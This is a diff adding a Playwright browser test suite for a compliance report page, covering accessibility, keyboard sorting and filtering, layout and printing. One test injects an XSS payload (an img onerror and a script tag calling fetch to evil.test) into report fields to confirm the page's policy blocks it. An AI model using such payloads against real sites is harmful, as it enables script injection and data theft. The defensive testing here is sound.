@@ -1,0 +1,149 @@
+import type { Browser } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { fitPage } from "../../src/report-page/fit-page.ts";
+import { nameReport } from "../hostile-report.ts";
+import { makeLargeReport, makeMonths, makeViolations } from "../large-report.ts";
+import { makeCompliantReport, makePendingReport, makeReport } from "../make-report.ts";
+import { findChromium } from "./find-chromium.ts";
+import { findBarriers, launchBrowser, openPage } from "./open-page.ts";
+
+declare module "vitest" {
+  interface TaskMeta {
+    readonly skipReason?: string;
+  }
+}
+
+const executablePath = findChromium();
+const hidden = { violations: [], hasMoreViolations: false } as const;
+const usual = fitPage({
+  report: { ...makeLargeReport(30), months: [...makeMonths("tweets", 14), ...makeMonths("users", 3)] },
+  violations: makeViolations(8),
+  hasMoreViolations: true,
+});
+const phone = { viewport: { width: 360, height: 740 } } as const;
+
+describe.skipIf(executablePath === undefined)(
+  "the page in a real browser",
+  { meta: { skipReason: "no Chromium was found; install the package `chromium`" } },
+  () => {
+    let browser: Browser;
+    beforeAll(async () => {
+      browser = await launchBrowser(executablePath as string);
+    });
+    afterAll(() => browser.close());
+
+    test.each([
+      ["light", { colorScheme: "light" }],
+      ["dark", { colorScheme: "dark" }],
+      ["light, on a phone", { colorScheme: "light", ...phone }],
+      ["dark, on a phone", { colorScheme: "dark", ...phone }],
+    ] as const)("it has no barrier that axe-core knows: %s", async (_, options) => {
+      await using opened = await openPage(browser, usual, options);
+      await opened.page.getByRole("button", { name: "Entries" }).click();
+      await opened.page.getByLabel("Filter files").fill("0001");
+      expect(await findBarriers(opened.page)).toEqual([]);
+      expect(opened.complaints).toEqual([]);
+    });
+
+    test.each([
+      ["violations", makeReport()],
+      ["nothing to remove", makeCompliantReport()],
+      ["a job that is not ready", makePendingReport()],
+    ])("nor has that of a check with %s", async (_, report) => {
+      await using opened = await openPage(browser, fitPage({ report, ...hidden }), phone);
+      expect(await findBarriers(opened.page)).toEqual([]);
+    });
+
+    test("it asks for nothing, and its policy lets nothing out, also not for names that are markup", async () => {
+      const attack = `"><img src=http://evil.test/a.png onerror="fetch('http://evil.test/b')"></style></script><script>fetch("//evil.test")</script>`;
+      const names = {
+        datasets: [attack, `${attack}2`],
+        file: attack,
+        action: attack,
+        reason: attack,
+        job: attack,
+      } as const;
+      const report = nameReport(names);
+      await using opened = await openPage(browser, fitPage({ report, ...hidden }));
+      await expect(
+        opened.page.getByRole("cell", { name: attack, exact: true }).count(),
+      ).resolves.toBeGreaterThan(3);
+      expect([opened.requests, opened.complaints]).toEqual([[], []]);
+      const policed = opened.page.evaluate("fetch('http://evil.test/c').then(() => 'sent', () => 'refused')");
+      await expect(policed).resolves.toBe("refused");
+      expect(opened.requests).toEqual([]);
+    });
+
+    test("its tables are sorted by keyboard, numbers as numbers, and back", async () => {
+      await using opened = await openPage(browser, usual);
+      const { page } = opened;
+      const files = page.getByRole("table", { name: "Files" });
+      const firstRow = files.locator("tbody tr").first();
+      await files.getByRole("button", { name: "No longer compliant" }).focus();
+      await page.keyboard.press("Enter");
+      await expect(firstRow.innerText()).resolves.toContain("part-000027.csv\t1,006\t28\t");
+      await expect(files.locator("th[aria-sort]").innerText()).resolves.toBe("No longer compliant");
+      await expect(files.locator("th[aria-sort]").getAttribute("aria-sort")).resolves.toBe("descending");
+      await page.keyboard.press("Space");
+      await expect(firstRow.innerText()).resolves.toMatch(/\t0\t0\t0\t0$/);
+      await page.keyboard.press("Shift+Tab");
+      await page.keyboard.press("Shift+Tab");
+      await page.keyboard.press("Enter");
+      await expect(firstRow.innerText()).resolves.toContain("/2011/part-000000.csv");
+      await expect(page.getByText("Sorted by File, ascending.").count()).resolves.toBe(1);
+    });
+
+    test("its tables are filtered by keyboard, and say how many rows are left", async () => {
+      await using opened = await openPage(browser, usual);
+      const { page } = opened;
+      const rows = page.getByRole("table", { name: "Files" }).locator("tbody tr:visible");
+      await expect(rows.count()).resolves.toBe(30);
+      await page.getByLabel("Filter files").focus();
+      await page.keyboard.type("PART-00000");
+      await expect(rows.count()).resolves.toBe(10);
+      await expect(page.getByText("10 of 30 rows shown.").count()).resolves.toBe(1);
+      await page.getByLabel("Filter files").fill("");
+      await expect(rows.count()).resolves.toBe(30);
+    });
+
+    test("without scripts the tables are whole, and no tool is shown that would not work", async () => {
+      await using opened = await openPage(browser, usual, { javaScriptEnabled: false });
+      const { page } = opened;
+      await expect(page.locator("table.data tbody tr:visible").count()).resolves.toBe(59);
+      await expect(page.locator("input:visible, button").count()).resolves.toBe(0);
+    });
+
+    test("on a phone nothing but tables in their frames is wider than the screen", async () => {
+      await using opened = await openPage(browser, usual, phone);
+      await expect(opened.page.evaluate("document.documentElement.scrollWidth")).resolves.toBe(360);
+    });
+
+    test("printed it is dark on light, whole, and without its tools, also from a dark screen", async () => {
+      await using opened = await openPage(browser, usual, { colorScheme: "dark" });
+      const { page } = opened;
+      const ground = "getComputedStyle(document.body).backgroundColor";
+      await expect(page.evaluate(ground)).resolves.toBe("rgb(18, 22, 27)");
+      await page.emulateMedia({ media: "print" });
+      await expect(page.evaluate(ground)).resolves.toBe("rgb(255, 255, 255)");
+      await expect(page.locator("input:visible").count()).resolves.toBe(0);
+      const cut =
+        "[...document.querySelectorAll('.scroll')].filter((box) => box.clientHeight < box.scrollHeight).length";
+      await expect(page.evaluate(cut)).resolves.toBe(0);
+      expect((await page.pdf()).subarray(0, 5).toString()).toBe("%PDF-");
+    });
+
+    test("the largest page opens, and a sort of its longest table ends", { timeout: 180_000 }, async () => {
+      const contents = {
+        report: makeLargeReport(100_000),
+        violations: makeViolations(10_000),
+        hasMoreViolations: true,
+      };
+      await using opened = await openPage(browser, fitPage(contents));
+      // By selectors and a click of the page's own: roles of tens of thousands of cells take a browser long to work out.
+      const files = opened.page.locator('table[aria-label="Files"]');
+      await files.locator("th button").nth(1).dispatchEvent("click");
+      await expect(files.locator("tbody tr").first().textContent()).resolves.toMatch(/\.csv1,006\d+000$/);
+      expect(opened.complaints).toEqual([]);
+    });
+  },
+);
